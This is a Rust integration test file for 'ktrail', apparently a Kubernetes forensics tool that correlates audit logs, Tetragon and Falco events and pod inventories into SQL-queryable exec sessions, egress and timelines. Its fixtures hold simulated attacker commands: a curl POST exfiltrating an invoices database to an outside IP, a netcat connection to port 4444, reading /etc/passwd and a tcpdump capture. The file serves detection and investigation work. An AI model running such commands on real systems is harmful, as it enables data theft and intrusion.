//! Correlation end to end: inventories, pods, egress and exec sessions from the producers'
//! real formats, ingested through the `ktrail` binary and answered by `ktrail sql`.

mod common;

use std::path::Path;

use common::{ktrail, sql_json};

fn ingest(data: &Path, paths: &[&str]) {
    let mut args = vec!["ingest"];
    args.extend_from_slice(paths);
    let o = ktrail(data, &args);
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{err}");
    assert!(!err.contains("rejected 1"), "{err}");
}

const AUDIT: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/data/exec_scenario/audit.jsonl"
);
const TETRAGON: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/data/exec_scenario/tetragon.jsonl"
);
const INVENTORY: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/ingest/tests/data/kubectl_get_pods_services_nodes.json"
);

/// The API request that deletes the exec scenario's pod, two minutes after the sessions.
const DELETE_INVOICE_API: &str = r#"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"0d9c8b7a-6f5e-4d3c-8b2a-190817263544","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/billing/pods/invoice-api-7d9f8b6c5-abc12","verb":"delete","user":{"username":"mallory@example.com","groups":["developers","system:authenticated"]},"sourceIPs":["203.0.113.77"],"userAgent":"kubectl/v1.31.0 (linux/amd64) kubernetes/9edcffc","objectRef":{"resource":"pods","namespace":"billing","name":"invoice-api-7d9f8b6c5-abc12","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":200},"requestReceivedTimestamp":"2026-11-26T10:02:00.000000Z","stageTimestamp":"2026-11-26T10:02:00.050000Z"}"#;

fn strings(v: &serde_json::Value) -> Vec<String> {
    v.as_array()
        .unwrap()
        .iter()
        .map(|s| s.as_str().unwrap().to_string())
        .collect()
}

/// Two concurrent `kubectl exec -- sh` sessions in one container: each gets its own user,
/// processes and connections; the pairing of requests to shells is ambiguous (same command,
/// seconds apart), which shows as confidence 0.5, not as a random pick.
fn check_sessions(data: &Path) {
    let rows = sql_json(
        data,
        "SELECT session_id, k8s_user, source_ips, namespace, pod, container_name, command, \
         confidence, processes, connections, process_count, ts_end FROM exec_sessions ORDER BY ts",
    );
    assert_eq!(rows.len(), 2, "{rows:?}");
    let (a, b) = (&rows[0], &rows[1]);
    assert_eq!(a["session_id"], "9b3c6a1e-0f43-4d7e-a5c2-1d8e7f6a5b4c");
    assert_eq!(a["k8s_user"], "mallory@example.com");
    assert_eq!(strings(&a["source_ips"]), ["203.0.113.77"]);
    assert_eq!(a["pod"], "invoice-api-7d9f8b6c5-abc12");
    assert_eq!(a["container_name"], "invoice-api");
    assert_eq!(a["command"], "sh");
    assert_eq!(
        strings(&a["processes"]),
        [
            "/bin/sh",
            "/usr/bin/curl -s -X POST --data-binary @/data/invoices.db http://198.51.100.23/upload",
            "/usr/sbin/tcpdump -i any -w /tmp/cap.pcap port 5432",
        ]
    );
    assert_eq!(strings(&a["connections"]), ["198.51.100.23:80"]);
    // The shell's exit is the session's last activity.
    assert_eq!(a["ts_end"], "2026-11-26T10:01:00Z");
    assert_eq!(b["k8s_user"], "bob@example.com");
    assert_eq!(
        strings(&b["processes"]),
        [
            "/bin/sh",
            "/bin/cat /etc/passwd",
            "/usr/bin/nc -w 3 203.0.113.9 4444"
        ]
    );
    assert_eq!(strings(&b["connections"]), ["203.0.113.9:4444"]);
    for r in [a, b] {
        assert_eq!(r["confidence"], 0.5, "{r}");
    }
    // The session's events, each with its session id: the request's audit stages, every
    // process, exit and connection.
    let events = sql_json(
        data,
        "SELECT kind, exe, dst_ip FROM session_events \
         WHERE session_id = '9b3c6a1e-0f43-4d7e-a5c2-1d8e7f6a5b4c' ORDER BY ts, kind",
    );
    let kinds: Vec<&str> = events.iter().map(|e| e["kind"].as_str().unwrap()).collect();
    assert_eq!(
        kinds,
        [
            "k8s_audit",
            "k8s_audit",
            "process_exec",
            "process_exec",
            "network_connect",
            "process_exec",
            "process_exit",
            "process_exit"
        ]
    );
    assert_eq!(events[4]["dst_ip"], "198.51.100.23");
    // exec_trace finds its rows in two steps (the exec ids first); they are the same rows.
    let trace = sql_json(
        data,
        "SELECT kind, exe, dst_ip FROM exec_trace('9b3c6a1e-0f43-4d7e-a5c2-1d8e7f6a5b4c') \
         ORDER BY ts, kind",
    );
    assert_eq!(trace, events);
    // Asking for one session or one user keeps the other request in the pod as a rival: the
    // same attribution as without the filter (alone, the later request would take the
    // earlier shell).
    for (filter, row) in [
        (
            format!("session_id = '{}'", b["session_id"].as_str().unwrap()),
            b,
        ),
        ("k8s_user = 'bob@example.com'".to_string(), b),
        ("k8s_user = 'mallory@example.com'".to_string(), a),
    ] {
        let one = sql_json(
            data,
            &format!(
                "SELECT session_id, k8s_user, source_ips, namespace, pod, container_name, \
                 command, confidence, processes, connections, process_count, ts_end \
                 FROM exec_sessions WHERE {filter}"
            ),
        );
        assert_eq!(one, std::slice::from_ref(row), "{filter}");
    }
    // The container's own process and its database connection belong to no session.
    let all: Vec<String> = rows.iter().flat_map(|r| strings(&r["processes"])).collect();
    assert!(!all.iter().any(|p| p.contains("invoice-api --listen")));
}

#[test]
fn exec_sessions_from_audit_and_tetragon_in_either_order() {
    let dir = tempfile::tempdir().unwrap();
    let first = dir.path().join("audit-first");
    ingest(&first, &[AUDIT]);
    ingest(&first, &[TETRAGON]);
    check_sessions(&first);
    let second = dir.path().join("runtime-first");
    ingest(&second, &[TETRAGON]);
    ingest(&second, &[AUDIT]);
    check_sessions(&second);
    // Filters reach the requests: one user's sessions only.
    let rows = sql_json(
        &second,
        "SELECT session_id FROM exec_sessions WHERE k8s_user = 'bob@example.com'",
    );
    assert_eq!(rows.len(), 1);
    assert_eq!(
        rows[0]["session_id"],
        "4e2d1c0b-9a87-4f65-b432-10fedcba9876"
    );
}

#[test]
fn inventory_pods_and_egress() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("store");
    ingest(&data, &[INVENTORY, TETRAGON]);
    let pods = sql_json(
        &data,
        "SELECT namespace, pod, workload_kind, workload_name, pod_ip, node, container_ids, live \
         FROM pods ORDER BY namespace, pod",
    );
    let names: Vec<&str> = pods.iter().map(|p| p["pod"].as_str().unwrap()).collect();
    assert_eq!(
        names,
        [
            "invoice-api-7d9f8b6c5-abc12",
            "ledger-0",
            "ledger-backup-29345760-x7k2p",
            "web-5c6d7e8f9-q2w3e"
        ]
    );
    assert_eq!(pods[0]["workload_kind"], "Deployment");
    assert_eq!(pods[0]["workload_name"], "invoice-api");
    assert_eq!(pods[0]["pod_ip"], "10.244.1.17");
    assert_eq!(pods[2]["workload_kind"], "CronJob");
    assert_eq!(strings(&pods[1]["container_ids"]).len(), 2);
    assert_eq!(pods[0]["live"], true);

    // Known networks make a destination allow-listed.
    for args in [
        &["networks", "add", "203.0.113.7/24", "partner"][..],
        &["networks", "add", "192.0.2.1", "bastion"],
        &["networks", "remove", "192.0.2.1"],
    ] {
        let o = ktrail(&data, args);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    }
    let o = ktrail(&data, &["networks", "list"]);
    assert_eq!(
        String::from_utf8_lossy(&o.stdout),
        "203.0.113.0/24\tpartner\n"
    );
    assert_eq!(
        ktrail(&data, &["networks", "add", "not-a-net", "x"])
            .status
            .code(),
        Some(1)
    );
    let egress = sql_json(
        &data,
        "SELECT dst_ip, dst_class, dst_pod, dst_label FROM egress ORDER BY ts",
    );
    let classes: Vec<(&str, &str)> = egress
        .iter()
        .map(|e| {
            (
                e["dst_ip"].as_str().unwrap(),
                e["dst_class"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        classes,
        [
            ("198.51.100.23", "unknown"),
            ("203.0.113.9", "allowlisted"),
            ("10.244.2.9", "pod"),
        ]
    );
    assert_eq!(egress[2]["dst_pod"], "ledger-0");
    let rows = sql_json(
        &data,
        "SELECT cidr_contains('10.244.0.0/16', '10.244.2.9') AS a, is_private_ip('198.51.100.23') AS b, \
         json_get_str(raw, 'metadata', 'name') AS n FROM events WHERE kind = 'k8s_object' AND resource = 'nodes' LIMIT 1",
    );
    assert_eq!(rows[0]["a"], true);
    assert_eq!(rows[0]["b"], false);
    assert_eq!(rows[0]["n"], "worker-1");

    // An alert that names only the short container id finds its pod and workload.
    let rows = sql_json(
        &data,
        "SELECT namespace, pod, workload_name, node FROM containers WHERE short_id = '3f1c0c9f7d2e'",
    );
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["pod"], "invoice-api-7d9f8b6c5-abc12");
    assert_eq!(rows[0]["workload_name"], "invoice-api");
}

/// Without Tetragon data, Falco's `Terminal shell in container` alert stands in for the
/// session's process, with lowered confidence.
#[test]
fn exec_sessions_fall_back_to_falco_shell_alerts() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("store");
    let audit = std::fs::read_to_string(AUDIT).unwrap();
    let mallory = audit.lines().next().unwrap();
    let falco = r#"{"hostname":"worker-1","output":"10:00:00.400000000: Notice A shell was spawned in a container with an attached terminal (evt_type=execve user=root process=sh proc_exepath=/bin/sh parent=runc command=sh terminal=34816 container_id=3f1c0c9f7d2e)","priority":"Notice","rule":"Terminal shell in container","source":"syscall","tags":["T1059","container","mitre_execution","shell"],"time":"2026-11-26T10:00:00.400000000Z","output_fields":{"container.id":"3f1c0c9f7d2e","evt.type":"execve","k8s.ns.name":"billing","k8s.pod.name":"invoice-api-7d9f8b6c5-abc12","proc.cmdline":"sh","proc.exepath":"/bin/sh","proc.pname":"runc","proc.tty":34816,"user.uid":0}}"#;
    let input = dir.path().join("input.jsonl");
    std::fs::write(&input, format!("{mallory}\n{falco}\n")).unwrap();
    ingest(&data, &[input.to_str().unwrap()]);
    let rows = sql_json(
        &data,
        "SELECT k8s_user, confidence, processes, root_exec_id FROM exec_sessions",
    );
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0]["k8s_user"], "mallory@example.com");
    assert_eq!(rows[0]["confidence"], 0.5);
    assert_eq!(strings(&rows[0]["processes"]), ["/bin/sh"]);
    assert!(rows[0].get("root_exec_id").is_none_or(|v| v.is_null()));
}

/// A pod the next inventory of its namespace no longer lists is deleted then; an audit
/// `delete` after a pod's last activity deletes it; leases end there.
#[test]
fn deleted_pods_stay_with_their_deletion_time() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("store");
    ingest(&data, &[INVENTORY]);
    // A later inventory without the CronJob's pod.
    let mut list: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(INVENTORY).unwrap()).unwrap();
    list["items"]
        .as_array_mut()
        .unwrap()
        .retain(|i| i["metadata"]["name"] != "ledger-backup-29345760-x7k2p");
    let later = dir.path().join("later.json");
    std::fs::write(&later, serde_json::to_string_pretty(&list).unwrap()).unwrap();
    ingest(&data, &[later.to_str().unwrap()]);
    // Runtime-only pod deleted through the API after its sessions.
    ingest(&data, &[TETRAGON]);
    let delete_file = dir.path().join("delete.jsonl");
    std::fs::write(&delete_file, format!("{DELETE_INVOICE_API}\n")).unwrap();

    // A second store: runtime + delete only (the inventory would keep the pod live).
    let runtime = dir.path().join("runtime");
    ingest(&runtime, &[TETRAGON, delete_file.to_str().unwrap()]);
    let rows = sql_json(
        &runtime,
        "SELECT deleted_at, live FROM pods WHERE pod = 'invoice-api-7d9f8b6c5-abc12'",
    );
    assert_eq!(rows[0]["deleted_at"], "2026-11-26T10:02:00Z");
    assert_eq!(rows[0]["live"], false);

    let rows = sql_json(
        &data,
        "SELECT pod, deleted_at IS NOT NULL AS deleted, live FROM pods WHERE namespace = 'billing' ORDER BY pod",
    );
    let got: Vec<(String, bool, bool)> = rows
        .iter()
        .map(|r| {
            (
                r["pod"].as_str().unwrap().to_string(),
                r["deleted"].as_bool().unwrap(),
                r["live"].as_bool().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("invoice-api-7d9f8b6c5-abc12".to_string(), false, true),
            ("ledger-0".to_string(), false, true),
            ("ledger-backup-29345760-x7k2p".to_string(), true, false),
        ]
    );
    // Its IP lease ended when it disappeared.
    let rows = sql_json(
        &data,
        "SELECT held_until IS NOT NULL AS ended FROM pod_ips WHERE ip = '10.244.2.31'",
    );
    assert_eq!(rows[0]["ended"], true);
}

/// The ready-made investigations over the exec scenario and the inventory.
#[test]
fn investigations_as_table_functions() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("store");
    ingest(&data, &[INVENTORY, AUDIT, TETRAGON]);

    // Everything mallory's session did, in time order, one line each.
    let trace = sql_json(
        &data,
        "SELECT kind, what FROM exec_trace('9b3c6a1e-0f43-4d7e-a5c2-1d8e7f6a5b4c')",
    );
    let what: Vec<&str> = trace.iter().map(|r| r["what"].as_str().unwrap()).collect();
    assert_eq!(trace.len(), 8, "{what:#?}");
    assert!(
        what[0].starts_with("create pods/exec invoice-api-7d9f8b6c5-abc12 by mallory@example.com"),
        "{what:#?}"
    );
    assert!(what.contains(
        &"exec /usr/bin/curl -s -X POST --data-binary @/data/invoices.db http://198.51.100.23/upload"
    ));
    assert!(
        what.iter()
            .any(|w| w.starts_with("connect ") && w.ends_with("198.51.100.23:80")),
        "{what:#?}"
    );

    // Who ran tcpdump, where: the workload comes from the runtime row or the inventory.
    let runs = sql_json(
        &data,
        "SELECT node, namespace, pod, workload_kind, workload_name, args FROM executions('tcpdump')",
    );
    assert_eq!(runs.len(), 1, "{runs:?}");
    assert_eq!(runs[0]["pod"], "invoice-api-7d9f8b6c5-abc12");
    assert_eq!(runs[0]["workload_name"], "invoice-api");
    assert_eq!(runs[0]["args"], "-i any -w /tmp/cap.pcap port 5432");
    assert!(sql_json(&data, "SELECT * FROM executions('nmap')").is_empty());

    // Unknown destinations from billing: both sessions' connections, none inside the cluster;
    // the window narrows them, constant expressions allowed.
    let unknown = sql_json(
        &data,
        "SELECT dst_ip, dst_port FROM egress_unknown('billing') ORDER BY ts",
    );
    let ips: Vec<&str> = unknown
        .iter()
        .map(|r| r["dst_ip"].as_str().unwrap())
        .collect();
    assert_eq!(ips, ["198.51.100.23", "203.0.113.9"]);
    let none = sql_json(
        &data,
        "SELECT * FROM egress_unknown('billing', '2026-11-26T11:00:00Z', now())",
    );
    assert!(none.is_empty(), "{none:?}");
    let window = sql_json(
        &data,
        "SELECT dst_ip FROM egress_unknown('billing', TIMESTAMP '2026-11-26 09:00:00', \
         TIMESTAMP '2026-11-26 09:00:00' + INTERVAL '2 hours')",
    );
    assert_eq!(window.len(), 2);

    // The database pod's timeline: its inventory rows and the connection made to it.
    let timeline = sql_json(
        &data,
        "SELECT relation, kind, pod, what FROM pod_timeline('billing', 'ledger-0')",
    );
    let relations: Vec<&str> = timeline
        .iter()
        .map(|r| r["relation"].as_str().unwrap())
        .collect();
    assert!(relations.contains(&"own"), "{timeline:?}");
    let inbound: Vec<_> = timeline
        .iter()
        .filter(|r| r["relation"] == "inbound")
        .collect();
    assert_eq!(inbound.len(), 1, "{timeline:?}");
    assert_eq!(inbound[0]["pod"], "invoice-api-7d9f8b6c5-abc12");

    // Misuse is one clear error.
    for (query, expected) in [
        (
            "SELECT * FROM exec_trace()",
            "exec_trace(session_id) takes 1 argument(s), got 0",
        ),
        (
            "SELECT * FROM egress_unknown('billing', 'yesterday')",
            "egress_unknown(namespace, [from], [to]): argument 2 (from) is not a Timestamp",
        ),
        (
            "SELECT * FROM executions(binary_name)",
            "executions(binary_name): argument 1 (binary_name) must be a constant",
        ),
    ] {
        let o = ktrail(&data, &["sql", query]);
        assert_eq!(o.status.code(), Some(1));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains(expected), "{query}: {err}");
        assert_eq!(err.lines().count(), 1, "{err}");
    }
}

/// A deleted pod's timeline ends with its deletion.
#[test]
fn pod_timeline_of_a_deleted_pod() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("store");
    let delete_file = dir.path().join("delete.jsonl");
    std::fs::write(&delete_file, format!("{DELETE_INVOICE_API}\n")).unwrap();
    ingest(&data, &[AUDIT, TETRAGON, delete_file.to_str().unwrap()]);
    let timeline = sql_json(
        &data,
        "SELECT ts, relation, kind, what FROM pod_timeline('billing', 'invoice-api-7d9f8b6c5-abc12')",
    );
    let last = timeline.last().unwrap();
    assert_eq!(last["kind"], "pod_deleted", "{timeline:#?}");
    assert_eq!(last["ts"], "2026-11-26T10:02:00Z");
    let before = &timeline[timeline.len() - 2];
    assert_eq!(
        before["what"],
        "delete pods invoice-api-7d9f8b6c5-abc12 by mallory@example.com -> 200 [ResponseComplete]"
    );
    // Both sessions' processes are in it.
    assert!(
        timeline
            .iter()
            .any(|r| r["what"] == "exec /usr/sbin/tcpdump -i any -w /tmp/cap.pcap port 5432")
    );
    assert!(
        timeline
            .iter()
            .any(|r| r["what"] == "exec /bin/cat /etc/passwd")
    );
}
